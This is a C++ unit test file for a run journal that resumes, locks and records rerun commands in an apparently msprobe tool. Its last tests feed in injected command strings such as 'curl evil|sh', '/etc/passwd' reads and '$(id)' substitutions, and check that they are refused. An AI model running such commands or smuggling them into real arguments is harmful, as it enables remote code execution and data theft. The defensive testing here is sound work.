// SPDX-License-Identifier: Apache-2.0
#include "journal/run_file.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "scratch_directory_for_test.h"

namespace msprobe::journal {
namespace {

using ::testing::HasSubstr;

const RunFacts kFacts = {
    {"dump", "8e4d"}, {"seed", "1234"}, {"only", ""}, {"as_given_dump", "./a\nb\\c.json"}};

std::string refusal(const std::filesystem::path& path, const RunFacts& facts) {
  const auto file = RunFile::open(path, facts);
  return file ? "no error" : file.error().message;
}

TEST(RunFile, SameFactsContinue) {
  const ScratchDirectory scratch;
  const auto path = scratch.path() / "run.txt";
  ASSERT_TRUE(RunFile::create(path, kFacts));
  const auto file = RunFile::open(path, kFacts);
  ASSERT_TRUE(file) << file.error().message;
  EXPECT_EQ(file->fact("as_given_dump"), "./a\nb\\c.json");
  EXPECT_FALSE(file->finished());
}

TEST(RunFile, OtherDumpOrOptionsAreRefused) {
  const ScratchDirectory scratch;
  const auto path = scratch.path() / "run.txt";
  ASSERT_TRUE(RunFile::create(path, kFacts));
  EXPECT_THAT(refusal(path, {{"dump", "ffff"}}), HasSubstr("belong to another dump"));
  EXPECT_THAT(refusal(path, {{"seed", "7"}}), HasSubstr("made with seed '1234', not '7'"));
  EXPECT_EQ(refusal(path, {{"as_given_dump", "elsewhere"}}), "no error");
  EXPECT_THAT(refusal(scratch.path() / "none.txt", kFacts), HasSubstr("none.txt is missing"));
}

TEST(RunFile, TwoRunsOnOneOutputAreRefused) {
  const ScratchDirectory scratch;
  const auto path = scratch.path() / "run.txt";
  {
    const auto first = RunFile::create(path, kFacts);
    ASSERT_TRUE(first);
    EXPECT_THAT(refusal(path, kFacts), HasSubstr("is in use"));
    EXPECT_FALSE(RunFile::create(path, kFacts));
  }
  EXPECT_EQ(refusal(path, kFacts), "no error");
}

TEST(RunFile, RemembersTheEnd) {
  const ScratchDirectory scratch;
  const auto path = scratch.path() / "run.txt";
  {
    auto file = RunFile::create(path, kFacts);
    ASSERT_TRUE(file->mark_finished({10, 20}));
    ASSERT_TRUE(file->mark_finished({10, 20}));
  }
  const std::string text = read_text(path);
  {
    auto file = RunFile::open(path, kFacts);
    EXPECT_EQ(file->finished(), (FinishedSizes{10, 20}));
    ASSERT_TRUE(file->mark_finished({30, 40}));
  }
  EXPECT_EQ(RunFile::open(path, kFacts)->finished(), (FinishedSizes{30, 40}));
  // A line cut off by a kill does not count, and does not spoil the next one.
  scratch.write("run.txt", text.substr(0, text.size() - 1));
  {
    auto file = RunFile::open(path, kFacts);
    ASSERT_TRUE(file);
    EXPECT_FALSE(file->finished());
    ASSERT_TRUE(file->mark_finished({5, 6}));
  }
  EXPECT_EQ(RunFile::open(path, kFacts)->finished(), (FinishedSizes{5, 6}));
}

TEST(RunFile, TheCommandIsKeptAsWords) {
  const ScratchDirectory scratch;
  const auto path = scratch.path() / "run.txt";
  CallCommand rerun("acc_check");
  rerun.add("-api_info", "a b/$(touch x).json").add_flag("--hf32");
  RunFacts facts = kFacts;
  add_rerun(facts, rerun);
  {
    const auto file = RunFile::create(path, facts);
    ASSERT_TRUE(file) << file.error().message;
  }
  const auto file = RunFile::inspect(path);
  ASSERT_TRUE(file) << file.error().message;
  const Result<CallCommand> found = rerun_of(file->facts());
  ASSERT_TRUE(found) << found.error().message;
  EXPECT_EQ(*found, rerun);
  EXPECT_TRUE(rerun_of(kFacts)->empty());
}

TEST(RunFile, TheCommandOfAnOlderFileIsReadAsWords) {
  const auto read = [](const std::string& text) { return rerun_of({{"as_given_rerun", text}}); };
  ASSERT_TRUE(read("msprobe acc_check -api_info 'a b.json' -d cpu --only"));
  EXPECT_EQ(read("msprobe acc_check -api_info 'a b.json' -d cpu --only")->text(),
            "msprobe acc_check -api_info 'a b.json' -d cpu");
  EXPECT_TRUE(read("")->empty());
}

TEST(RunFile, ACommandOfSomebodyElseIsRefused) {
  for (const std::string text :
       {"msprobe acc_check -api_info /etc/passwd; curl evil|sh # --only", "curl evil|sh",
        "msprobe acc_check --engine /tmp/evil --only", "msprobe acc_check -api_info $(id) --only",
        "msprobe convert_info d"}) {
    EXPECT_FALSE(rerun_of({{"as_given_rerun", text}})) << text;
  }
  // Words decide where there are some.
  EXPECT_FALSE(rerun_of({{"as_given_rerun", "msprobe acc_check --only"},
                         {"as_given_word", "curl"},
                         {"as_given_word", "evil"}}));
  EXPECT_FALSE(rerun_of({{"as_given_word", "msprobe"},
                         {"as_given_word", "acc_check"},
                         {"as_given_word", "--engine"},
                         {"as_given_word", "/tmp/evil"}}));
}

}  // namespace
}  // namespace msprobe::journal
